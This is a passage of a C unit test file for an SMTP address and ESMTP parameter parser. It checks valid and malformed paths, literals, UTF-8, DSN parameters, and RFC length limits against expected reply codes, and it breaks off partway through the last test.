/* check_smtp_addr.c - RFC 5321 paths and the ESMTP parameters of MAIL/RCPT. */
#include <check.h>
#include <errno.h>
#include <stdio.h>
#include <limits.h>
#include <regex.h>
#include <string.h>

#include "smtp_addr.h"

static struct smtp_path p;
static size_t used;
static const char *reply;

/* every refusal is one whole SMTP reply line with an enhanced status code */
static void assert_reply_line(const char *r, const char *code)
{
    regex_t re;
    ck_assert_ptr_nonnull(r);
    ck_assert_int_eq(regcomp(&re, "^[45][0-9][0-9] [45]\\.[0-9]{1,3}\\.[0-9]{1,3} [ -~]+$",
                             REG_EXTENDED | REG_NOSUB), 0);
    ck_assert_msg(regexec(&re, r, 0, NULL, 0) == 0, "not a reply line: %s", r);
    regfree(&re);
    ck_assert_msg(!strncmp(r, code, strlen(code)), "reply \"%s\" is not \"%s...\"", r, code);
    ck_assert(!strchr(r, '\r') && !strchr(r, '\n'));
}

static int parse_n(const char *s, size_t n, int is_rcpt)
{
    reply = NULL;
    used = 12345;
    return smtp_path_parse(s, n, is_rcpt, &p, &used, &reply);
}
static int parse(const char *s, int is_rcpt) { return parse_n(s, strlen(s), is_rcpt); }

static void ok(const char *s, int is_rcpt, const char *addr)
{
    ck_assert_msg(parse(s, is_rcpt), "refused %s: %s", s, reply ? reply : "?");
    ck_assert_str_eq(p.addr, addr);
    ck_assert_uint_eq(p.addr_len, strlen(addr));
    ck_assert_uint_le(used, strlen(s));
}
static void bad_n(const char *s, size_t n, int is_rcpt, const char *code)
{
    ck_assert_msg(!parse_n(s, n, is_rcpt), "accepted %s", s);
    ck_assert_int_eq(errno, EINVAL);
    assert_reply_line(reply, code);
    ck_assert_uint_eq(p.addr_len, 0);   /* nothing half-filled */
}
static void bad(const char *s, int is_rcpt, const char *code) { bad_n(s, strlen(s), is_rcpt, code); }

START_TEST(test_plain_and_telnet_forms)
{
    ok("<bob@example.com>", 0, "bob@example.com");
    ck_assert(p.bracketed);
    ck_assert_str_eq(p.local, "bob");
    ck_assert_str_eq(p.domain, "example.com");
    ck_assert_uint_eq(p.local_len, 3);
    ck_assert_uint_eq(p.domain_len, 11);
    ck_assert_uint_eq(used, 17);
    ck_assert(!p.is_null && !p.quoted && !p.literal && !p.utf8 && !p.source_route);
    /* "MAIL FROM: me@mydomain.com" and "MAIL FROM:me@mydomain.com" */
    ok(" me@mydomain.com", 0, "me@mydomain.com");
    ck_assert(!p.bracketed);
    ck_assert_uint_eq(used, 16);
    ok("me@mydomain.com", 0, "me@mydomain.com");
    ok("   <danny@mydomain.com>", 0, "danny@mydomain.com");
    ok(" you@yourdomain.com", 1, "you@yourdomain.com");
    ok("<sarah@yourdomain.com>", 1, "sarah@yourdomain.com");
    /* parameters follow the path after a space */
    ok("<a@b.example> SIZE=100", 0, "a@b.example");
    ck_assert_uint_eq(used, 13);
    ok("a@b.example SIZE=100", 0, "a@b.example");
    ck_assert_uint_eq(used, 11);
    ok("<x.y-z+tag@sub-1.example.org>", 1, "x.y-z+tag@sub-1.example.org");
    ok("<Bob@localhost>", 1, "Bob@localhost");
    ok("<a@b>  ", 1, "a@b");
    /* the seed's Cloudflare-mangled address is not an address */
    bad("<[email protected]>", 0, "501 5.1.7");
}
END_TEST

START_TEST(test_null_path_and_postmaster)
{
    ck_assert(parse("<>", 0));
    ck_assert(p.is_null && p.bracketed);
    ck_assert_uint_eq(p.addr_len, 0);
    ck_assert_str_eq(p.addr, "");
    ck_assert_uint_eq(used, 2);
    ck_assert(parse(" <> SIZE=10", 0));
    ck_assert_uint_eq(used, 3);
    bad("<>", 1, "501 5.1.3");
    bad(" ", 0, "501 5.1.7");
    bad("", 1, "501 5.1.3");
    bad("< >", 0, "501 5.1.7");
    /* RCPT TO:<postmaster> without a domain, any case */
    ok("<postmaster>", 1, "postmaster");
    ck_assert_uint_eq(p.domain_len, 0);
    ck_assert_str_eq(p.local, "postmaster");
    ok("<PostMaster>", 1, "postmaster");
    ok(" postmaster", 1, "postmaster");
    ok("<postmaster@example.com>", 1, "postmaster@example.com");
    bad("<postmaster>", 0, "501 5.1.7");
    bad("<bob>", 1, "501 5.1.3");
    bad("<\"postmaster\">", 1, "501 5.1.3");
    bad("<@a.example:postmaster>", 1, "501 5.1.3");
    bad("<postmasterx>", 1, "501 5.1.3");
}
END_TEST

START_TEST(test_quoted_local)
{
    ok("<\"john doe\"@example.com>", 1, "\"john doe\"@example.com");
    ck_assert(p.quoted);
    ck_assert_str_eq(p.local, "\"john doe\"");
    ck_assert_uint_eq(p.local_len, 10);
    ok("<\"a\\\"b\"@x.example>", 1, "\"a\\\"b\"@x.example");
    ok("<\"a@b>c\"@x.example>", 1, "\"a@b>c\"@x.example");   /* '@' and '>' inside quotes */
    ok("\"sp ace\"@x.example SIZE=1", 0, "\"sp ace\"@x.example");
    ck_assert_uint_eq(used, 18);
    bad("<\"\"@x.example>", 1, "501 5.1.3");           /* empty local part */
    bad("<\"abc@x.example>", 1, "501 5.1.3");          /* unterminated */
    bad("<\"a\tb\"@x.example>", 1, "501 5.1.3 Invalid character");
    bad("<\"a\\\tb\"@x.example>", 1, "501 5.1.3 Invalid character");
    bad("<\"a\"b@x.example>", 1, "501 5.1.3");
    bad("<\"a\\", 1, "501 5.1.3");
}
END_TEST

START_TEST(test_quoted_plain_is_unquoted)
{
    /* "u1"@x is u1@x (RFC 5321 4.1.2): one form for lookups and the envelope */
    char u[65];
    ok("<\"u1\"@x.example>", 1, "u1@x.example");
    ck_assert(!p.quoted);
    ck_assert_str_eq(p.local, "u1");
    ck_assert(smtp_path_local_user(&p, u, sizeof u));
    ck_assert_str_eq(u, "u1");
    ok("<\"first.last+tag\"@x.example>", 1, "first.last+tag@x.example");
    ck_assert(!p.quoted);
    ok("<\"u\\1\"@x.example>", 1, "u1@x.example");      /* a quoted-pair of atext */
    ok("\"u1\"@x.example SIZE=1", 0, "u1@x.example");
    ck_assert_uint_eq(used, 14);                        /* as written, quotes and all */
    /* content that needs its quotes keeps them */
    const char *keep[] = { "\"john doe\"", "\"a@b\"", "\".a\"", "\"a.\"", "\"a..b\"", "\"a\\\"b\"",
                           "\"a,b\"", "\"a:b\"" };
    for (size_t i = 0; i < sizeof keep / sizeof keep[0]; i++) {
        char in[64], want[64];
        snprintf(in, sizeof in, "<%s@x.example>", keep[i]);
        snprintf(want, sizeof want, "%s@x.example", keep[i]);
        ok(in, 1, want);
        ck_assert(p.quoted);
        ck_assert(!smtp_path_local_user(&p, u, sizeof u));
    }
    /* the special <"postmaster"> without a domain is still not <postmaster> */
    bad("<\"postmaster\">", 1, "501 5.1.3");
}
END_TEST

START_TEST(test_literals)
{
    ok("<u@[192.0.2.1]>", 1, "u@[192.0.2.1]");
    ck_assert(p.literal);
    ck_assert_str_eq(p.domain, "[192.0.2.1]");
    ok("<u@[IPv6:2001:db8::1]>", 1, "u@[IPv6:2001:db8::1]");
    ok("<u@[ipv6:::1]>", 1, "u@[ipv6:::1]");
    ok("<u@[IPv6:::ffff:192.0.2.1]>", 1, "u@[IPv6:::ffff:192.0.2.1]");
    ok("u@[0.0.0.0]", 0, "u@[0.0.0.0]");
    bad("<u@[192.0.2.256]>", 1, "501 5.1.3 Bad recipient address literal");
    bad("<u@[192.0.2]>", 1, "501 5.1.3");
    bad("<u@[192.0.2.1.5]>", 1, "501 5.1.3");
    bad("<u@[1234.0.2.1]>", 1, "501 5.1.3");
    bad("<u@[IPv6:zz::1]>", 1, "501 5.1.3");
    bad("<u@[IPv6:1:2:3:4:5:6:7:8:9]>", 1, "501 5.1.3");
    bad("<u@[x-tag:whatever]>", 1, "501 5.1.3");
    bad("<u@[]>", 1, "501 5.1.3");
    bad("<u@[192.0.2.1>", 1, "501 5.1.3");
    bad("<u@[192.0.2.1]x>", 1, "501 5.1.3");
    bad("<u@[192.0.2.1 ]>", 1, "501 5.1.3");
}
END_TEST

START_TEST(test_routes_and_flags)
{
    ok("<@a.example,@b.example:u@c.example>", 1, "u@c.example");
    ck_assert(p.source_route);
    ck_assert_uint_eq(used, 35);
    ok("<@a.example:u@c.example>", 0, "u@c.example");
    ck_assert(p.source_route);
    bad("<@a.example>", 1, "501 5.1.3");
    bad("<@a.example,u@c.example>", 1, "501 5.1.3");
    bad("<@[192.0.2.1]:u@c.example>", 1, "501 5.1.3");
    bad("<@:u@c.example>", 1, "501 5.1.3");
    bad("@a.example:u@c.example", 1, "501 5.1.3");   /* no routes without brackets */
    ok("<u%v@c.example>", 1, "u%v@c.example");
    ck_assert(p.has_percent && !p.has_bang);
    ok("<host!u@c.example>", 1, "host!u@c.example");
    ck_assert(p.has_bang && !p.has_percent);
    ok("<\"a%b\"@c.example>", 1, "a%b@c.example");
    ck_assert(p.has_percent && !p.quoted);
    /* the route is dropped: what is left is an ordinary local mailbox */
    char u[65];
    ok("<@a.example,@b.example:u+x@c.example>", 1, "u+x@c.example");
    ck_assert(smtp_path_local_user(&p, u, sizeof u));
    ck_assert_str_eq(u, "u");
    ok("<\"a%b\"@c.example>", 1, "a%b@c.example");
    ck_assert(!smtp_path_local_user(&p, u, sizeof u));
}
END_TEST

START_TEST(test_refusals)
{
    bad("<a b@x.example>", 1, "501 5.1.3 Bad recipient address syntax");
    bad("<a@b@x.example>", 1, "501 5.1.3 Bad recipient address syntax");
    bad("<a@@x.example>", 1, "501 5.1.3");
    bad("a@b@x.example", 0, "501 5.1.7");
    bad("<@x.example>", 1, "501 5.1.3");
    bad("<a@>", 1, "501 5.1.3");
    bad("a@", 0, "501 5.1.7");
    bad("<a>", 0, "501 5.1.7 Sender address must have a domain");
    bad("<.a@x.example>", 1, "501 5.1.3");
    bad("<a.@x.example>", 1, "501 5.1.3");
    bad("<a..b@x.example>", 1, "501 5.1.3");
    bad("<a@-x.example>", 1, "501 5.1.3 Bad recipient domain");
    bad("<a@x-.example>", 1, "501 5.1.3 Bad recipient domain");
    bad("<a@x..example>", 1, "501 5.1.3 Bad recipient domain");
    bad("<a@.x.example>", 1, "501 5.1.3 Bad recipient domain");
    bad("<a@x.example.>", 1, "501 5.1.3 Bad recipient domain");
    bad("<a@x_y.example>", 1, "501 5.1.3 Bad recipient domain");
    /* an IP address is a literal, in brackets; a numeric top-level label is no name */
    bad("<a@192.0.2.1>", 1, "501 5.1.3 Bad recipient domain");
    bad("<a@192.0.2.1>", 0, "501 5.1.7 Bad sender domain");
    bad("a@127.0.0.1", 1, "501 5.1.3 Bad recipient domain");
    bad("<a@123>", 1, "501 5.1.3 Bad recipient domain");
    bad("<a@x.example.123>", 1, "501 5.1.3 Bad recipient domain");
    bad("<@192.0.2.1:a@x.example>", 1, "501 5.1.3");
    ok("<a@123.example>", 1, "a@123.example");
    ok("<a@x.123a>", 1, "a@x.123a");
    ok("<a@1-2.example>", 1, "a@1-2.example");
    bad("<a@x.example", 1, "501 5.1.3");
    bad("<a@x.example>junk", 1, "501 5.1.3");
    bad("<a@x.example>>", 1, "501 5.1.3");
    bad("<<a@x.example>>", 1, "501 5.1.3");
    bad("a@x.example>", 1, "501 5.1.3");
    bad("<a;b@x.example>", 1, "501 5.1.3");
    bad("<a(comment)@x.example>", 1, "501 5.1.3");
    /* control characters, NUL, tab, DEL, CR/LF */
    bad("<a\tb@x.example>", 1, "501 5.1.3 Invalid character");
    bad("\t<a@x.example>", 1, "501 5.1.3 Invalid character");
    bad_n("<a\0b@x.example>", 15, 1, "501 5.1.3 Invalid character");
    bad_n("<ab@x.example\0>", 15, 1, "501 5.1.3 Invalid character");
    bad_n("ab@x.example\0", 13, 0, "501 5.1.7 Invalid character");
    bad("<a\rb@x.example>", 0, "501 5.1.7 Invalid character");
    bad("<ab@x.exa\nmple>", 0, "501 5.1.7 Invalid character");
    bad("<a\x7f@x.example>", 0, "501 5.1.7 Invalid character");
    bad("<a\x01@x.example>", 0, "501 5.1.7 Invalid character");
}
END_TEST

START_TEST(test_utf8)
{
    ok("<j\xc3\xb6ran@ex\xc3\xa4mple.example>", 1, "j\xc3\xb6ran@ex\xc3\xa4mple.example");
    ck_assert(p.utf8);
    ok("<\xe7\x94\xa8\xe6\x88\xb7@\xe4\xbe\x8b\xe5\xad\x90.\xe5\x85\xac\xe5\x8f\xb8>", 1,
       "\xe7\x94\xa8\xe6\x88\xb7@\xe4\xbe\x8b\xe5\xad\x90.\xe5\x85\xac\xe5\x8f\xb8");
    ok("<\"\xf0\x9f\x98\x80 x\"@x.example>", 1, "\"\xf0\x9f\x98\x80 x\"@x.example");
    ck_assert(p.utf8 && p.quoted);
    ok("<plain@x.example>", 1, "plain@x.example");
    ck_assert(!p.utf8);
    bad("<\xff@x.example>", 1, "501 5.1.3 Invalid character");
    bad("<a\xc3@x.example>", 1, "501 5.1.3 Invalid character");        /* truncated */
    bad("<\xc0\xaf@x.example>", 1, "501 5.1.3 Invalid character");     /* overlong '/' */
    bad("<\xe0\x80\xaf@x.example>", 1, "501 5.1.3 Invalid character"); /* overlong */
    bad("<\xed\xa0\x80@x.example>", 1, "501 5.1.3 Invalid character"); /* surrogate */
    bad("<\xf4\x90\x80\x80@x.example>", 1, "501 5.1.3 Invalid character"); /* > U+10FFFF */
    bad("<\xc2\x85@x.example>", 1, "501 5.1.3 Invalid character");     /* C1 NEL */
    bad("<a@x\x80.example>", 1, "501 5.1.3 Invalid character");
    bad("<\"\xfe\"@x.example>", 1, "501 5.1.3 Invalid character");
}
END_TEST

/* s parses as a RCPT path whose local user is want */
static void local_user_is(const char *s, const char *want)
{
    char u[65];
    ck_assert_msg(parse(s, 1), "%s", s);
    ck_assert_msg(smtp_path_local_user(&p, u, sizeof u), "%s", s);
    ck_assert_str_eq(u, want);
}

START_TEST(test_dot_atom)
{
    static const char *good[] = { "a", "a.b", "x!#$%&'*+-/=?^_`{|}~y", "1.2.3" };
    static const char *bad[] = { "", ".a", "a.", "a..b", "a b", "a@b", "a(b", "\xc3\xa4" };
    for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
        ck_assert_msg(smtp_dot_atom(good[i], strlen(good[i])), "%s", good[i]);
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        ck_assert_msg(!smtp_dot_atom(bad[i], strlen(bad[i])), "%s", bad[i]);
    ck_assert(smtp_dot_atom("a.b", 1) && !smtp_dot_atom("a.b", 2));   /* only the n octets count */
}
END_TEST

START_TEST(test_local_user)
{
    char u[65];
    local_user_is("<Bob.Smith+Lists@Example.COM>", "bob.smith");
    local_user_is("<alice@x.example>", "alice");
    local_user_is("<a+b+c@x.example>", "a");
    local_user_is("<Postmaster>", "postmaster");
    ck_assert(parse("<alice@x.example>", 1));
    ck_assert(!smtp_path_local_user(&p, u, 5));       /* "alice" + NUL needs 6 */
    ck_assert_int_eq(errno, ENAMETOOLONG);
    ck_assert(smtp_path_local_user(&p, u, 6));
    const char *refused[] = { "<+tag@x.example>", "<\"ali ce\"@x.example>", "<a%b@x.example>",
                              "<h!a@x.example>", "<@r.example:a%b@x.example>" };
    for (size_t i = 0; i < sizeof refused / sizeof refused[0]; i++) {
        ck_assert(parse(refused[i], 1));
        ck_assert_msg(!smtp_path_local_user(&p, u, sizeof u), "%s", refused[i]);
        ck_assert_int_eq(errno, EINVAL);
    }
    ck_assert(parse("<>", 0));
    ck_assert(!smtp_path_local_user(&p, u, sizeof u));
}
END_TEST

START_TEST(test_parse_ull)
{
    unsigned long long v = 7;
    ck_assert(smtp_parse_ull("0", 1, ULLONG_MAX, &v));
    ck_assert_uint_eq(v, 0);
    ck_assert(smtp_parse_ull("10240000", 8, ULLONG_MAX, &v));
    ck_assert_uint_eq(v, 10240000);
    ck_assert(smtp_parse_ull("18446744073709551615", 20, ULLONG_MAX, &v));
    ck_assert(v == ULLONG_MAX);
    v = 7;
    ck_assert(!smtp_parse_ull("18446744073709551616", 20, ULLONG_MAX, &v));
    ck_assert_int_eq(errno, ERANGE);
    ck_assert_uint_eq(v, 7);
    ck_assert(!smtp_parse_ull("99999999999999999999999", 23, ULLONG_MAX, &v));
    ck_assert(smtp_parse_ull("100", 3, 100, &v));
    ck_assert(!smtp_parse_ull("101", 3, 100, &v));
    ck_assert(!smtp_parse_ull("9", 1, 5, &v));
    ck_assert(smtp_parse_ull("12", 1, 100, &v));      /* only len octets count */
    ck_assert_uint_eq(v, 1);
    const char *nan[] = { "", "-1", "+1", "1e9", " 1", "1 ", "0x10", "1.5" };
    for (size_t i = 0; i < sizeof nan / sizeof nan[0]; i++) {
        ck_assert_msg(!smtp_parse_ull(nan[i], strlen(nan[i]), ULLONG_MAX, &v), "%s", nan[i]);
        ck_assert_int_eq(errno, EINVAL);
    }
}
END_TEST

static struct smtp_mail_params mp;
static struct smtp_rcpt_params rp;

static int mail(const char *s) { reply = NULL; return smtp_mail_params_parse(s, strlen(s), &mp, &reply); }
static int rcpt(const char *s) { reply = NULL; return smtp_rcpt_params_parse(s, strlen(s), &rp, &reply); }
static void mail_bad(const char *s, const char *code)
{
    ck_assert_msg(!mail(s), "accepted %s", s);
    assert_reply_line(reply, code);
}
static void rcpt_bad(const char *s, const char *code)
{
    ck_assert_msg(!rcpt(s), "accepted %s", s);
    assert_reply_line(reply, code);
}

START_TEST(test_mail_params)
{
    ck_assert(mail(""));
    ck_assert(!mp.has_size && mp.body == SMTP_BODY_NONE && mp.ret == SMTP_RET_NONE && !mp.smtputf8);
    ck_assert(mail("   "));
    ck_assert(mail(" SIZE=1000 BODY=8BITMIME SMTPUTF8 RET=HDRS ENVID=QQ+2B314"));
    ck_assert(mp.has_size);
    ck_assert_uint_eq(mp.size, 1000);
    ck_assert_int_eq(mp.body, SMTP_BODY_8BITMIME);
    ck_assert(mp.smtputf8);
    ck_assert_int_eq(mp.ret, SMTP_RET_HDRS);
    ck_assert_str_eq(mp.envid, "QQ+2B314");
    ck_assert(mail("size=0 body=7bit ret=full smtputf8"));
    ck_assert(mp.has_size && mp.size == 0);
    ck_assert_int_eq(mp.body, SMTP_BODY_7BIT);
    ck_assert_int_eq(mp.ret, SMTP_RET_FULL);
    ck_assert(mail("  SIZE=18446744073709551615  "));
    ck_assert(mp.size == ULLONG_MAX);
    ck_assert(mail(" AUTH=<>"));
    ck_assert(mail(" AUTH=bob+40example.com"));
    /* SIZE: digits past 64 bits are a size too big (ULLONG_MAX, which the
     * session refuses with 552 5.3.4, as Postfix does), not a bad value */
    ck_assert(mail(" SIZE=18446744073709551616"));
    ck_assert(mp.has_size && mp.size == ULLONG_MAX);
    ck_assert(mail(" SIZE=99999999999999999999999999"));
    ck_assert(mp.size == ULLONG_MAX);
    /* sign, exponent, empty, junk after the digits */
    mail_bad(" SIZE=18446744073709551617x", "501 5.5.4");
    mail_bad(" SIZE=-1", "501 5.5.4");
    mail_bad(" SIZE=1e9", "501 5.5.4");
    mail_bad(" SIZE=", "501 5.5.4");
    mail_bad(" SIZE", "501 5.5.4");
    mail_bad(" SIZE=12 SIZE=12", "501 5.5.4 Duplicate");
    mail_bad(" size=1 SiZe=2", "501 5.5.4 Duplicate");
    mail_bad(" SMTPUTF8 SMTPUTF8", "501 5.5.4 Duplicate");
    mail_bad(" BODY=BINARYMIME", "555 5.5.4");    /* not offered (RFC 3030): unsupported, not malformed */
    mail_bad(" BODY=bogus", "555 5.5.4");
    mail_bad(" BODY=", "501 5.5.4");
    mail_bad(" SMTPUTF8=yes", "501 5.5.4");
    mail_bad(" RET=ALL", "501 5.5.4");
    mail_bad(" ENVID=a+2", "501 5.5.4");
    mail_bad(" ENVID=a+zz", "501 5.5.4");
    mail_bad(" ENVID=a+2b", "501 5.5.4");        /* xtext hex is upper case */
    mail_bad(" ENVID=", "501 5.5.4");
    mail_bad(" ENVID=a=b", "501 5.5.4");
    /* RFC 3461 4.4: decoded, it must be printable US-ASCII */
    mail_bad(" ENVID=a+0Ab", "501 5.5.4");
    mail_bad(" ENVID=+C3+A9", "501 5.5.4");
    mail_bad(" ENVID=+7F", "501 5.5.4");
    ck_assert(mail(" ENVID=a+20b+2B+3D"));
    mail_bad(" AUTH=", "501 5.5.4");
    mail_bad(" FOO=bar", "555 5.5.4");
    mail_bad(" NOTIFY=NEVER", "555 5.5.4");
    mail_bad(" ORCPT=rfc822;a@b", "555 5.5.4");
    mail_bad(" X-FOO", "555 5.5.4");
    mail_bad(" =1", "501 5.5.4");
    mail_bad(" -X=1", "501 5.5.4");
    mail_bad(" SI_ZE=1", "501 5.5.4");
    mail_bad(" SIZE=1\t", "501 5.5.4");
    mail_bad(" SIZE=1\r", "501 5.5.4");
    ck_assert(!smtp_mail_params_parse(" SIZE=1\0", 8, &mp, &reply));
    assert_reply_line(reply, "501 5.5.4");
    mail_bad(" BODY=8BITMIME\xc3\xa4", "501 5.5.4");
    /* a refusal leaves nothing half-set */
    ck_assert(!mail(" SIZE=5 FOO"));
    ck_assert(!mp.has_size && mp.size == 0);
}
END_TEST

START_TEST(test_rcpt_params)
{
    ck_assert(rcpt(""));
    ck_assert_uint_eq(rp.notify, 0);
    ck_assert_str_eq(rp.orcpt, "");
    /* the seed: RCPT TO: <...> NOTIFY=success,failure */
    ck_assert(rcpt(" NOTIFY=success,failure"));
    ck_assert_uint_eq(rp.notify, SMTP_NOTIFY_SUCCESS | SMTP_NOTIFY_FAILURE);
    ck_assert(rcpt(" NOTIFY=DELAY,Success,FAILURE ORCPT=rfc822;bob@example.com"));
    ck_assert_uint_eq(rp.notify, SMTP_NOTIFY_SUCCESS | SMTP_NOTIFY_FAILURE | SMTP_NOTIFY_DELAY);
    ck_assert_str_eq(rp.orcpt, "rfc822;bob@example.com");
    ck_assert(rcpt(" NOTIFY=NEVER"));
    ck_assert_uint_eq(rp.notify, SMTP_NOTIFY_NEVER);
    ck_assert(rcpt(" ORCPT=rfc822;bob+2Bx@example.com"));
    ck_assert(rcpt(" ORCPT=utf-8;j\xc3\xb6ran@example.com"));
    rcpt_bad(" NOTIFY=NEVER,SUCCESS", "501 5.5.4");
    rcpt_bad(" NOTIFY=failure,never", "501 5.5.4");
    rcpt_bad(" NOTIFY=", "501 5.5.4");
    rcpt_bad(" NOTIFY", "501 5.5.4");
    rcpt_bad(" NOTIFY=SUCCESS,", "501 5.5.4");
    rcpt_bad(" NOTIFY=,SUCCESS", "501 5.5.4");
    rcpt_bad(" NOTIFY=SUCCESS,,DELAY", "501 5.5.4");
    rcpt_bad(" NOTIFY=ALWAYS", "501 5.5.4");
    /* RFC 3461's list (1#) allows an item twice; it counts once */
    ck_assert(rcpt(" NOTIFY=SUCCESS,success"));
    ck_assert_uint_eq(rp.notify, SMTP_NOTIFY_SUCCESS);
    ck_assert(rcpt(" NOTIFY=FAILURE,DELAY,FAILURE"));
    ck_assert_uint_eq(rp.notify, SMTP_NOTIFY_FAILURE | SMTP_NOTIFY_DELAY);
    ck_assert(rcpt(" NOTIFY=NEVER,NEVER"));
    ck_assert_uint_eq(rp.notify, SMTP_NOTIFY_NEVER);
    rcpt_bad(" NOTIFY=NEVER,NEVER,SUCCESS", "501 5.5.4");
    rcpt_bad(" NOTIFY=SUCCESS NOTIFY=DELAY", "501 5.5.4 Duplicate");
    rcpt_bad(" ORCPT=rfc822;a@b ORCPT=rfc822;a@b", "501 5.5.4 Duplicate");
    rcpt_bad(" ORCPT=bob@example.com", "501 5.5.4");
    rcpt_bad(" ORCPT=;bob@example.com", "501 5.5.4");
    rcpt_bad(" ORCPT=rfc822;", "501 5.5.4");
    rcpt_bad(" ORCPT=rfc822;a+4", "501 5.5.4");
    rcpt_bad(" ORCPT=rfc822;a+00b@example.com", "501 5.5.4");    /* RFC 3461 4.2: printable once decoded */
    /* Postfix's client: an rfc822 ORCPT that decodes to UTF-8 is the
     * utf-8 ORCPT it means (RFC 6533 unitext, '+' '=' '\\' space escaped) */
    ck_assert(rcpt(" ORCPT=rfc822;j+C3+B6ran+2Bx+3D+5C+20y@example.com"));
    ck_assert_str_eq(rp.orcpt, "utf-8;j\xc3\xb6ran\\x{2B}x\\x{3D}\\x{5C}\\x{20}y@example.com");
    ck_assert(rcpt(" ORCPT=RFC822;+C3+B6@x"));
    ck_assert_str_eq(rp.orcpt, "utf-8;\xc3\xb6@x");
    rcpt_bad(" ORCPT=rfc822;j+C3ran@example.com", "501 5.5.4");      /* no UTF-8 */
    rcpt_bad(" ORCPT=rfc822;j+FFran@example.com", "501 5.5.4");
    rcpt_bad(" ORCPT=rfc822;j+C3+B6ran+0A@example.com", "501 5.5.4"); /* a control */
    rcpt_bad(" ORCPT=x400;j+C3+B6ran@example.com", "501 5.5.4");      /* only rfc822 */
    rcpt_bad(" ORCPT=rfc822;j\xc3\xb6ran@example.com", "501 5.5.4");
    rcpt_bad(" ORCPT=utf-8;a\xff", "501 5.5.4");
    rcpt_bad(" SIZE=10", "555 5.5.4");
    rcpt_bad(" RET=FULL", "555 5.5.4");
    rcpt_bad(" BOGUS", "555 5.5.4");
    ck_assert(!rcpt(" NOTIFY=SUCCESS BOGUS"));
    ck_assert_uint_eq(rp.notify, 0);
}
END_TEST

/* ---- limits ---- */

static char big[4096];

static const char *mkaddr(size_t local, size_t domain, int brackets)
{
    /* local part of 'l's; domain of 59-octet labels "ddd...d." ending in a label */
    size_t n = 0;
    if (brackets) big[n++] = '<';
    memset(big + n, 'l', local);
    n += local;
    big[n++] = '@';
    for (size_t i = 0; i < domain; i++) big[n + i] = (i % 60 == 59) ? '.' : 'd';
    n += domain;
    if (brackets) big[n++] = '>';
    big[n] = 0;
    return big;
}

START_TEST(test_local_limit)
{
    /* RFC 5321's 64 is a floor: longer local parts (VERP, SRS) are taken
     * as far as the 256-octet path leaves room */
    ck_assert(parse(mkaddr(64, 10, 1), 1));
    ck_assert_uint_eq(p.local_len, 64);
    ck_assert(parse(mkaddr(65, 10, 0), 0));
    ck_assert_uint_eq(p.local_len, 65);
    ck_assert(parse(mkaddr(200, 10, 1), 1));
    ck_assert_uint_eq(p.local_len, 200);
    ck_assert(parse(mkaddr(SMTP_LOCAL_MAX, 1, 1), 1));      /* "<" 252 "@d>": 256 */
    ck_assert_uint_eq(p.local_len, SMTP_LOCAL_MAX);
    ck_assert_uint_eq(p.addr_len, SMTP_LOCAL_MAX + 2);
    bad(mkaddr(SMTP_LOCAL_MAX + 1, 1, 1), 1, "501 5.1.3 Recipient local part too long");
    bad(mkaddr(SMTP_LOCAL_MAX + 1, 1, 0), 0, "501 5.1.7 Sender local part too long");
    bad(mkaddr(200, 61, 1), 1, "501 5.1.3 Recipient address too long");   /* path 264 */
    bad(mkaddr(200, 61, 0), 0, "501 5.1.7 Sender address too long");
    /* a quoted local part counts its quotes */
    memset(big, 0, sizeof big);
    big[0] = '<';
    big[1] = '"';
    memset(big + 2, 'q', SMTP_LOCAL_MAX - 2);
    big[10] = ' ';                     /* content that keeps its quotes */
    memcpy(big + SMTP_LOCAL_MAX, "\"@x>", 5);
    ck_assert(parse(big, 1));
    ck_assert_uint_eq(p.local_len, SMTP_LOCAL_MAX);
    big[1] = '"';
    memset(big + 2, 'q', SMTP_LOCAL_MAX - 1);
    big[10] = ' ';
    memcpy(big + SMTP_LOCAL_MAX + 1, "\"@x>", 5);
    bad(big, 1, "501 5.1.3 Recipient local part too long");
}
END_TEST

START_TEST(test_domain_and_path_limits)
{
    /* path: "<" + 1 + "@" + domain + ">" <= 256, so domain 252 is the most */
    ck_assert(parse(mkaddr(1, 252, 1), 1));
    ck_assert_uint_eq(p.domain_len, 252);
    ck_assert_uint_eq(p.addr_len, 254);
    ck_assert_uint_eq(used, 256);
    bad(mkaddr(1, 253, 1), 1, "501 5.1.3 Recipient address too long");
    /* the same without brackets: counted as if bracketed */
    ck_assert(parse(mkaddr(1, 252, 0), 1));
    bad(mkaddr(1, 253, 0), 1, "501 5.1.3 Recipient address too long");
    /* a 255-octet domain passes the domain rule but not the path rule,
     * 256 fails the domain rule itself */
    bad(mkaddr(1, 255, 1), 1, "501 5.1.3 Recipient address too long");
    bad(mkaddr(1, 256, 1), 1, "501 5.1.3 Recipient domain too long");
    bad(mkaddr(1, 2000, 1), 0, "501 5.1.7 Sender domain too long");
    /* 64 local + 189 domain = 256 with brackets */
    ck_assert(parse(mkaddr(64, 189, 1), 0));
    bad(mkaddr(64, 190, 1), 0, "501 5.1.7 Sender address too long");
    /* a source route counts towards the path */
    char r[300];
    memcpy(r, "<@r.example:", 12);
    memcpy(r + 12, mkaddr(1, 242, 0), 244);
    memcpy(r + 256, ">", 2);
    ck_assert_uint_eq(strlen(r), 257);
    bad(r, 1, "501 5.1.3 Recipient address too long");
    memcpy(r + 12, mkaddr(1, 241, 0), 243);
    memcpy(r + 255, ">", 2);
    ck_assert(parse(r, 1));
    ck_assert(p.source_route);
}
END_TEST

START_TEST(test_label_limit)
{
    char d[200];
    memset(d, 0, sizeof d);
    memcpy(d, "<u@", 3);
    memset(d + 3, 'a', 63);
    memcpy(d + 66, ".example>", 10);
    ck_assert(parse(d, 1));
    memset(d + 3, 'a', 64);
    memcpy(d + 67, ".example>", 10);
    bad(d, 1, "501 5.1.3 Bad recipient domain");
}
END_TEST

START_TEST(test_param_limits)
{
    char s[700];
    memcpy(s, " ENVID=", 7);
    memset(s + 7, 'e', 100);
    s[107] = 0;
    ck_assert(mail(s));
    ck_assert_uint_eq(strlen(mp.envid), 100);
    memset(s + 7, 'e', 101);
    s[108] = 0;
    mail_bad(s, "501 5.5.4");
    memcpy(s, " ORCPT=rfc822;", 14);
    memset(s + 14, 'o', 493);
    s[507] = 0;                       /* value: 7 + 493 = 500 */
    ck_assert(rcpt(s));
    ck_assert_uint_eq(strlen(rp.orcpt), 500);
    memset(s + 14, 'o', 494);
    s[508] = 0;
    rcpt_bad(s, "501 5.5.4");
    /* the utf-8 form of an rfc822 ORCPT is bounded by the same 500
     * octets: "utf-8;", the 2 of U+00F6 and k "+" as \x{2B} (6 each) */
